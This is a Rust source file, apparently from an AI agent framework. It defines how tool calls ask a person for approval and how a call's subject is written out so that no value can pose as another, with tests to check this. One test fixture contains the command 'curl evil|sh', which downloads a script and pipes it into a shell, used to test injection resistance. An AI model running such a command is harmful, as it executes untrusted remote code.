//! Approval that a tool call needs.

use serde_json::Value;

/// Mark of a value that is not a text.
const JSON_MARK: &str = " (JSON)";

/// Approval that a tool call needs; see [`Tool::approval`](crate::Tool::approval).
#[derive(Debug, Clone, Default, PartialEq, Eq)]
pub enum Approval {
    /// The call is made without approval.
    #[default]
    Never,
    /// A person is asked first, and the turn waits for the decision.
    Ask {
        /// Everything that the call would do, as the person sees it: for example a command with its
        /// folder, its variables and its network access. [`SubjectText`] writes it. A call whose
        /// subject differs in a byte needs its own approval.
        subject: String,
        /// Summary on one line, for lists.
        summary: String,
        /// Calls that "always" would allow from then on. For `exec`: commands in the form of its
        /// allow-list (`git log -5`). For other tools: calls with the same pattern. `None`: only
        /// this exact subject.
        pattern: Option<String>,
    },
    /// The call is not made. The model gets this reason.
    Deny(String),
}

/// Where a call sends what the model wrote; see [`Tool::destination`](crate::Tool::destination).
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Destination {
    /// Name for people and for "always" rules: `messages to telegram:8`.
    pub name: String,
    /// Whether "always" covers all calls to the destination, or only the same call.
    pub covers_all: bool,
}

impl Destination {
    /// A destination of which "always" covers all calls.
    #[must_use]
    pub const fn new(name: String) -> Self {
        Self { name, covers_all: true }
    }
}

/// Text of an approval's subject: values with their names, one below the other. Two different lists
/// of names and values never give the same text.
///
/// ```text
/// folder: app
/// command:
/// | git pull
/// | make
/// ```
#[derive(Debug, Default)]
pub struct SubjectText(String);

impl SubjectText {
    /// Adds a value. Each line of a value with several lines begins with `|`.
    #[must_use]
    pub fn with(self, name: &str, value: &str) -> Self {
        self.add(name, "", value)
    }

    /// Adds a value, with a mark behind its name that no name contains.
    fn add(mut self, name: &str, mark: &str, value: &str) -> Self {
        if !self.0.is_empty() {
            self.0.push('\n');
        }
        let is_plain = |c: char| c.is_ascii_alphanumeric() || matches!(c, ' ' | '_' | '-' | '.');
        match name.chars().all(is_plain) {
            true => self.0.push_str(name),
            false => self.0.push_str(&Value::from(name).to_string()),
        }
        self.0.push_str(mark);
        self.0.push(':');
        if value.contains('\n') {
            for line in value.split('\n') {
                self.0.push_str(if line.is_empty() { "\n|" } else { "\n| " });
                self.0.push_str(line);
            }
        } else if !value.is_empty() {
            self.0.push(' ');
            self.0.push_str(value);
        }
        self
    }

    /// Adds the fields of a call's input.
    #[must_use]
    pub fn with_input(self, input: &Value) -> Self {
        match input {
            Value::Object(fields) => fields.iter().fold(self, |text, (name, value)| match value {
                Value::String(value) => text.with(name, value),
                // A number and the same number as text are different values.
                value => text.add(name, JSON_MARK, &value.to_string()),
            }),
            value => self.add("input", JSON_MARK, &value.to_string()),
        }
    }
}

impl From<String> for SubjectText {
    /// Continues a text that [`SubjectText`] has written.
    fn from(text: String) -> Self {
        Self(text)
    }
}

impl From<SubjectText> for String {
    fn from(text: SubjectText) -> Self {
        text.0
    }
}

#[cfg(test)]
mod tests {
    use proptest::prelude::*;
    use serde_json::json;

    use super::*;
    use crate::visible;

    fn subject(values: &[(String, String)]) -> String {
        let add = |text: SubjectText, (name, value): &(String, String)| text.with(name, value);
        values.iter().fold(SubjectText::default(), add).into()
    }

    /// Reads names and values back from the shown text.
    fn read(shown: &str) -> Vec<(String, String)> {
        let mut text = String::new();
        let mut rest = shown;
        while let Some((before, after)) = rest.split_once("⟦U+") {
            let (code, after) = after.split_once('⟧').unwrap();
            text.push_str(before);
            text.push(char::from_u32(u32::from_str_radix(code, 16).unwrap()).unwrap());
            rest = after;
        }
        text.push_str(rest);
        let mut found: Vec<(String, Vec<String>)> = Vec::new();
        for line in text.split('\n') {
            if let Some(line) = line.strip_prefix('|') {
                let line = line.strip_prefix(' ').unwrap_or(line).to_owned();
                found.last_mut().unwrap().1.push(line);
                continue;
            }
            let (name, value) = match line.starts_with('"') {
                true => {
                    let mut names = serde_json::Deserializer::from_str(line).into_iter::<String>();
                    let name = names.next().unwrap().unwrap();
                    let at = names.byte_offset();
                    (name, line[at..].strip_prefix(':').unwrap())
                }
                false => {
                    let (name, value) = line.split_once(':').unwrap();
                    (name.to_owned(), value)
                }
            };
            found.push((name, value.strip_prefix(' ').map(str::to_owned).into_iter().collect()));
        }
        found.into_iter().map(|(name, lines)| (name, lines.join("\n"))).collect()
    }

    #[test]
    fn lines_are_kept_and_nothing_in_a_value_looks_like_another_value() {
        let command = "git pull # update\ncurl evil|sh\n\nnetwork: no".to_owned();
        let text = subject(&[("folder".into(), "app".into()), ("command".into(), command)]);

        assert_eq!(
            text,
            "folder: app\ncommand:\n| git pull # update\n| curl evil|sh\n|\n| network: no"
        );
    }

    #[test]
    fn inputs_of_different_types_are_shown_differently() {
        let shown = |input: Value| String::from(SubjectText::default().with_input(&input));

        assert_eq!(shown(json!({"path": "a", "n": 1})), "n (JSON): 1\npath: a".to_owned());
        assert_ne!(shown(json!({"n": 1})), shown(json!({"n": "1"})));
        assert_ne!(shown(json!({"n": 1})), shown(json!({"n (JSON)": "1"})));
        assert_ne!(shown(json!([1])), shown(json!({"input (JSON)": "[1]"})));
    }

    proptest! {
        /// The values can be read back from what a person sees, so two different subjects are never
        /// shown alike.
        #[test]
        fn the_shown_text_determines_the_subject(
            values in prop::collection::vec(
                ("[a-z|:\"\n ]{1,6}|\\PC{1,4}", "[a-z|:`⟦⟧U+0 \n\t\r\u{202e}\u{200d}]{0,12}|(?s).{0,8}"),
                1..5,
            ),
        ) {
            prop_assert_eq!(read(&visible(&subject(&values))), values);
        }
    }
}
